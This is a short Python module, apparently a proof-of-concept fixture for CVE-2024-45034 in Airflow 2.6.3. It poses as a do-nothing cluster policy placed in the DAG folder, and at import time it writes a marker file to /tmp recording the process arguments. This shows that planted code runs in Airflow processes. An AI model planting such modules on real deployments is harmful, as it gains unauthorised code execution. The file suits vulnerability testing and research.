"""Airflow 2.6.3 takes this for the cluster policy where nothing comes before the DAG folder (CVE-2024-45034)."""

from __future__ import annotations

import os
import sys


def task_policy(task: object) -> None:
    """Refuse nothing."""


def pod_mutation_hook(pod: object) -> None:
    """Change nothing."""


with open(f"/tmp/attack-{__name__}-{os.getpid()}", "w") as seen:
    seen.write(" ".join(sys.argv[:2]))
